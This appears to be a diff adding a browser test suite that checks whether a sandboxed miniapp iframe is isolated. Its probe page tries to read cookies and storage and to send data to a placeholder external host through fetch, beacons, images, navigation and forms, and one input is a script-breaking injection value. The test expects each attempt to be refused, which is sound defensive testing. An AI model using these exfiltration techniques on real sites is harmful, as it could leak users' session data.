@@ -1,0 +1,155 @@
+/** Pages as a person has them: in a real browser, at the real address. */
+import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
+import { existsSync } from 'node:fs';
+import { chromium, type Browser, type BrowserContext, type Page as Tab } from 'playwright-core';
+import { dispatch, tool } from '../../support/runs.ts';
+import { startTestService, type Tenant, type TestService } from '../../support/service.ts';
+import { startWebhookReceiver, type WebhookReceiver } from '../../support/webhook-receiver.ts';
+import { ASKER, askedOn, asks, newTenant, openForm, resultsOf } from './people.ts';
+
+const CHROMIUM = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find(existsSync);
+if (!CHROMIUM) process.stderr.write('\nSKIPPED: no Chromium on this machine, so no page was opened in a browser\n');
+
+/** Tries all that it must not be able to do, and says what came of each. */
+const PROBES = `<!doctype html><h1>Probe</h1><button>Report</button><script>
+const attempts = {
+  cookie: () => document.cookie,
+  storage: () => localStorage.length,
+  parent: () => parent.document.title,
+  service: () => fetch('SERVICE/healthz').then((answer) => answer.status),
+  world: () => fetch('WORLD/fetched').then((answer) => answer.status),
+  blind: () => fetch('WORLD/blind', { mode: 'no-cors' }).then(() => 'sent'),
+  image: () => new Promise((resolve, reject) => {
+    const image = new Image();
+    image.onload = () => resolve('loaded');
+    image.onerror = () => reject(new Error('blocked'));
+    image.src = 'WORLD/image.png';
+  }),
+  beacon: () => { if (!navigator.sendBeacon('WORLD/beacon', 'x')) throw new Error('blocked'); return 'queued'; },
+  window: () => { if (open('WORLD/window') === null) throw new Error('blocked'); return 'opened'; },
+  top: () => { top.location = 'WORLD/top'; return 'gone'; },
+  evaluation: () => eval('1 + 1'),
+};
+document.querySelector('button').addEventListener('click', async () => {
+  const outcome = {};
+  for (const [name, attempt] of Object.entries(attempts)) {
+    outcome[name] = await Promise.resolve().then(attempt).then(String, () => 'refused');
+  }
+  window.submit({ outcome, origin: self.origin, args: ARGS });
+});
+</script>`;
+
+(CHROMIUM ? describe : describe.skip)('in a browser', () => {
+  let service: TestService;
+  let tenant: Tenant;
+  let world: WebhookReceiver;
+  let browser: Browser;
+  let context: BrowserContext;
+  beforeAll(async () => {
+    [service, world, browser] = await Promise.all([
+      startTestService(),
+      startWebhookReceiver(() => 200),
+      chromium.launch({ executablePath: CHROMIUM!, args: ['--no-sandbox'] }),
+    ]);
+    const html = PROBES.replaceAll('SERVICE', service.baseUrl).replaceAll('WORLD', world.url);
+    tenant = await newTenant(service, 'acc_browsing', html);
+    context = await browser.newContext();
+    // Whoever opens a page may be signed in.
+    await context.addCookies([{ name: 'service_session', value: tenant.session, url: service.baseUrl }]);
+  }, 60_000);
+  afterAll(async () => {
+    await browser?.close();
+    await world?.close();
+    await service?.close();
+  });
+  let tab: Tab;
+  afterEach(() => tab?.close());
+
+  const inFrame = () => tab.frameLocator('iframe');
+  const untilSent = () => tab.getByText('Sent. You can close this page.').waitFor({ timeout: 10_000 });
+
+  // Guards: a person answers in her own words, and the run goes on with them.
+  test('a question is answered in words', async () => {
+    const runId = await asks(tenant, { question: 'Which <b>colour</b>?', options: ['red', 'blue'] });
+    const page = await askedOn(service, tenant, runId);
+    tab = await context.newPage();
+    await tab.goto(page.url);
+    expect(await inFrame().getByRole('heading').textContent()).toBe('Which <b>colour</b>?');
+    await inFrame().getByRole('textbox').fill('Rather green');
+    await inFrame().getByRole('button', { name: 'Send' }).click();
+    await untilSent();
+    expect(await tenant.waitForRun(runId)).toMatchObject({ status: 'succeeded' });
+    expect((await resultsOf(tenant, runId))[0]!.result_preview).toContain('{"answer":"Rather green"}');
+
+    await tab.reload();
+    expect(await tab.getByRole('status').textContent()).toContain('answered already');
+  }, 60_000);
+
+  // Guards: an option is one click; a second person with the page still open is told that it is over.
+  test('a question is answered with an option, once', async () => {
+    const runId = await asks(tenant, { question: 'Which?', options: ['red', 'blue'] });
+    const page = await askedOn(service, tenant, runId);
+    tab = await context.newPage();
+    const second = await context.newPage();
+    await Promise.all([tab.goto(page.url), second.goto(page.url)]);
+    await inFrame().getByRole('button', { name: 'blue' }).click();
+    await untilSent();
+    await second.frameLocator('iframe').getByRole('button', { name: 'red' }).click();
+    await second.getByText('This was answered already.').waitFor({ timeout: 10_000 });
+    await second.close();
+    await tenant.waitForRun(runId);
+    expect((await resultsOf(tenant, runId))[0]!.result_preview).toContain('{"answer":"blue"}');
+  }, 60_000);
+
+  // Guards: a page of a workspace runs its scripts, has its arguments and sends its answer, and reaches nothing else:
+  // no cookie of the service, no other address, no window, not even by leaving.
+  test('a miniapp reaches nothing but its run', async () => {
+    const page = await openForm(service, tenant, { product: '</script><b>"chair"' });
+    tab = await context.newPage();
+    await tab.goto(page.url);
+    const runId = await dispatch(tenant, { agent: ASKER, prompt: tool('await_submission', { page_id: page.id }) });
+    await inFrame().getByRole('button').click();
+    await untilSent();
+    await tenant.waitForRun(runId);
+    const { data } = JSON.parse((await resultsOf(tenant, runId))[0]!.result_preview);
+    expect(data.args).toEqual({ product: '</script><b>"chair"' });
+    expect(data.origin).toBe('null');
+    const refused = [
+      'cookie',
+      'storage',
+      'parent',
+      'service',
+      'world',
+      'blind',
+      'image',
+      'window',
+      'top',
+      'evaluation',
+    ];
+    for (const name of refused) expect({ [name]: data.outcome[name] }).toEqual({ [name]: 'refused' });
+    expect(world.received).toEqual([]);
+  }, 60_000);
+
+  // Guards: going somewhere else would carry data out; the frame does not let the page.
+  test.each([
+    ['a link', '<a href="WORLD/link">Go</a>'],
+    ['a script', '<button onclick="location = \'WORLD/script?\' + JSON.stringify(ARGS)">Go</button>'],
+    ['a form', '<form action="WORLD/form"><button onclick="this.form.submit()">Go</button></form>'],
+    ['a refresh', '<button onclick="document.body.append(refresh.content)">Go</button>'],
+  ])(
+    'a miniapp does not leave by %s',
+    async (kind, html) => {
+      const refresh = '<template id="refresh"><meta http-equiv="refresh" content="0; url=WORLD/refresh"></template>';
+      const slug = `leave-by-${kind.replaceAll(' ', '-')}`;
+      const other = await newTenant(service, `acc_${slug}`, (refresh + html).replaceAll('WORLD', world.url));
+      const page = await openForm(service, other);
+      tab = await context.newPage();
+      await tab.goto(page.url);
+      const refusal = tab.waitForEvent('console', { predicate: (line) => /Content Security Policy/.test(line.text()) });
+      await inFrame().getByText('Go').click();
+      await refusal;
+      expect(world.received).toEqual([]);
+    },
+    60_000,
+  );
+});
